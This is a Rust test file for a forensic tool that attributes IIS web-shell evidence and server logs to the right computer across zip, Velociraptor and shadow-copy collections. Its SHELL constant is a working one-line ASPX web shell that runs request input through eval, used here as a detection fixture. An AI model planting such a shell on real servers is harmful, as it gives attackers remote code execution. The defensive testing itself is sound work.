//! Which computer a file is of, and who stands behind a proxy.
//!
//! In: collections of two computers, loose files, and logs of a server behind a balancer. Out: the hosts and sources that an
//! examiner would name; two computers are never made one.

use std::collections::BTreeSet;

use crate::doors::doors;
use crate::events::zip;
use crate::scratch::{Scratch, text};

const SHELL: &[u8] = b"<%@ Page Language=\"Jscript\"%>\n<%eval(Request.Item[\"q4\"],\"unsafe\");%>";
const LOG: &str = "inetpub/logs/LogFiles/W3SVC1/u_ex210305.log";
const PAGE: &str = "inetpub/wwwroot/aspnet_client/note.aspx";

fn log(header: &str, rows: &[&str]) -> Vec<u8> {
    let head = "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken";
    let space = if header.is_empty() { "" } else { " " };
    format!("{head}{space}{header}\n{}\n", rows.join("\n")).into_bytes()
}

fn quiet_log() -> Vec<u8> {
    log("", &["2021-03-05 08:00:00 192.0.2.20 GET /owa/ - 443 - 198.51.100.20 Mozilla/5.0 200 0 0 12"])
}

fn log_of_use() -> Vec<u8> {
    log(
        "",
        &[
            "2021-03-05 09:00:00 192.0.2.21 POST /aspnet_client/note.aspx - 443 - 203.0.113.44 curl/7.70 200 0 0 12",
        ],
    )
}

/// The hosts of all files, each once.
fn hosts(scratch: &Scratch) -> Vec<String> {
    let evidence = scratch.evidence();
    let hosts: BTreeSet<&str> = evidence.values().filter_map(|one| one["host"].as_str()).collect();
    hosts.into_iter().map(str::to_owned).collect()
}

fn told(scratch: &Scratch) -> Vec<String> {
    doors(scratch)
        .iter()
        .map(|door| format!("{} {} {}", text(door, "host"), text(door, "kind"), text(door, "verdict")))
        .collect()
}

/// The page lies on one computer, and another was asked for its name: no door is *used*.
#[track_caller]
fn check_apart(one: (&str, &str), other: (&str, &str), volume: &str, own: &[(&str, &[u8])]) {
    let scratch = Scratch::new();
    let (page, log) = (format!("{volume}{PAGE}"), format!("{volume}{LOG}"));
    let (quiet, busy) = (quiet_log(), log_of_use());
    let first = [own, &[(page.as_str(), SHELL), (log.as_str(), quiet.as_slice())]].concat();
    let second = [own, &[(log.as_str(), busy.as_slice())]].concat();
    scratch.write(&format!("given/{}", one.0), zip(&first));
    scratch.write(&format!("given/{}", other.0), zip(&second));
    scratch.investigate("given --quiet").expect(0);
    let mut both = [one.1, other.1];
    both.sort_unstable();
    assert_eq!(hosts(&scratch), both);
    let found = told(&scratch);
    assert!(found.contains(&format!("{} webshell succeeded", one.1)), "{found:?}");
    assert!(!found.iter().any(|door| door.ends_with("used")), "{found:?}");
}

#[test]
fn zips_named_after_computers_are_of_these() {
    check_apart(("NODE3.zip", "NODE3"), ("NODE4.zip", "NODE4"), "C/", &[]);
    check_apart(("NODE3-2021-03-06.zip", "NODE3"), ("NODE4_20210306.zip", "NODE4"), "D/", &[]);
}

#[test]
fn collections_of_velociraptor_are_of_their_clients() {
    let own: &[(&str, &[u8])] = &[("client_info.json", b"{}"), ("collection_context.json", b"{}")];
    check_apart(
        ("Collection-NODE3_lin_example-2021-03-06T10_00_00Z.zip", "NODE3.lin.example"),
        ("Collection-NODE-2019-2021-03-06T11_00_00Z.zip", "NODE-2019"),
        "uploads/ntfs/%5C%5C.%5CC%3A/",
        own,
    );
}

#[test]
fn a_shadow_copy_is_of_the_same_computer() {
    let scratch = Scratch::new();
    let shadow = "uploads/ntfs/%5C%5C%3F%5CGLOBALROOT%5CDevice%5CHarddiskVolumeShadowCopy2/";
    let (live, early) = (format!("uploads/ntfs/%5C%5C.%5CC%3A/{PAGE}"), format!("{shadow}{LOG}"));
    let info: &[u8] = br#"{"hostname":"NODE5","fqdn":"node5.lin.example"}"#;
    let collection =
        zip(&[("client_info.json", info), (live.as_str(), SHELL), (early.as_str(), log_of_use().as_slice())]);
    scratch.write("given/night.zip", collection);
    scratch.investigate("given --quiet").expect(0);
    assert_eq!(hosts(&scratch), ["node5.lin.example"]);
    assert_eq!(told(&scratch), ["node5.lin.example webshell used"]);
}

#[test]
fn loose_files_are_of_no_known_computer_and_of_no_common_one() {
    let scratch = Scratch::new();
    scratch.write("given/a/note.aspx", SHELL);
    scratch.write("given/b/u_ex210305.log", log_of_use());
    scratch.investigate("given --quiet").expect(0);
    assert_eq!(hosts(&scratch), Vec::<String>::new());
    assert!(!told(&scratch).iter().any(|door| door.ends_with("used")), "{:?}", told(&scratch));
    assert!(scratch.slugs().contains(&"host-unknown".to_owned()), "{:?}", scratch.slugs());
}
